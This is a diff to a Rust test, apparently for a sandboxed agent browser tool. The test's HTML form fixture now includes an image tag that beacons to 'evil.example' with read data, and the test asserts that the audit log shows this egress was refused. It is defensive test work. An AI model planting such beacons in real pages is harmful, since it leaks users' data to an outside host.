@@ -13,7 +13,8 @@ use serde_json::Value;
 use super::cards::approve;
 use crate::support::{Home, none_left, read};
 
-const FORM: &str = "<title>Order</title><form method=post action=/buy><input name=who></form>";
+const FORM: &str = "<title>Order</title><form method=post action=/buy><input name=who></form>\
+                    <img src=http://evil.example/pixel?what-was-read>";
 
 /// What the server was sent, and whether it answers that.
 #[derive(Clone, Copy, PartialEq, Eq)]
@@ -135,6 +136,12 @@ fn a_form_is_sent_once_somebody_has_said_yes_and_what_was_seen_is_evidence() {
     assert!(kept.starts_with(b"\x89PNG"));
     let record = read(&home).of("tool.finished").next().expect("the first call")["data"]["images"][0].clone();
     assert_eq!(record["digest"], screenshot["ref_id"], "it is what the journal refers to");
+    // The operator learns what the page was kept from, and that the browser itself asked for nothing.
+    let audit = home.windlass(&["audit", "show", "--json", "--type", "gate_block"]).run().expect(0).objects();
+    let refused = audit.iter().filter(|event| event["decision"] == "egress refused");
+    let mut hosts: Vec<String> = refused.map(|event| event["details"]["host"].to_string()).collect();
+    hosts.dedup();
+    assert_eq!(hosts, ["\"evil.example\""], "{audit:?}");
     let page = home.windlass(&["trace", "open"]).run().expect(0).stdout;
     let page = std::fs::read_to_string(page.trim()).expect("the page");
     assert!(page.contains(&format!("<img src=\"file://{path}\"")), "{page}");
